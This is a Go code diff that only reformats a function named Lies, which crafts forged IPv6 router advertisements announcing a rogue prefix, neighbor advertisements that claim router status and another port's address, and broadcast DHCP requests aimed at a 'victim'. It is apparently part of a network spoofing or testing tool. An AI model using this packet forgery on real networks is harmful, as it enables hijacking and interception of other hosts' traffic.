@@ -41,8 +41,10 @@ func Lies(ad *plan.Adapter, victim netip.Addr, now time.Duration) [][]byte {
 	}
 	everybody := netip.MustParseAddr("ff02::1")
 	six(everybody, &ndp.RouterAdvertisement{RouterLifetime: time.Hour,
-		Options: []ndp.Option{&ndp.PrefixInformation{PrefixLength: 64, OnLink: true, AutonomousAddressConfiguration: true,
-			ValidLifetime: time.Hour, PreferredLifetime: time.Hour, Prefix: StrangePrefix.Addr()}}})
+		Options: []ndp.Option{
+			&ndp.PrefixInformation{PrefixLength: 64, OnLink: true, AutonomousAddressConfiguration: true,
+				ValidLifetime: time.Hour, PreferredLifetime: time.Hour, Prefix: StrangePrefix.Addr()},
+		}})
 	if port := ad.Segment.Port; port != nil && port.Address6.IsValid() {
 		six(everybody, &ndp.NeighborAdvertisement{Override: true, Router: true, TargetAddress: port.Address6.Addr(),
 			Options: []ndp.Option{&ndp.LinkLayerAddress{Direction: ndp.Target, Addr: ad.MAC[:]}}})
@@ -55,8 +57,12 @@ func Lies(ad *plan.Adapter, victim netip.Addr, now time.Duration) [][]byte {
 				m.UpdateOption(dhcpv4.OptMessageType(dhcpv4.MessageTypeRequest))
 				m.UpdateOption(dhcpv4.OptRequestedIPAddress(wanted.AsSlice()))
 			}
-			f := packet.Datagram(packet.IP{Source: netip.IPv4Unspecified(), Destination: netip.AddrFrom4([4]byte{255, 255, 255, 255})},
-				dhcp.ClientPort, dhcp.ServerPort, m.ToBytes())
+			f := packet.Datagram(
+				packet.IP{Source: netip.IPv4Unspecified(), Destination: netip.AddrFrom4([4]byte{255, 255, 255, 255})},
+				dhcp.ClientPort,
+				dhcp.ServerPort,
+				m.ToBytes(),
+			)
 			packet.SetLink(f, mac.Broadcast, ad.MAC)
 			out = append(out, f)
 		}
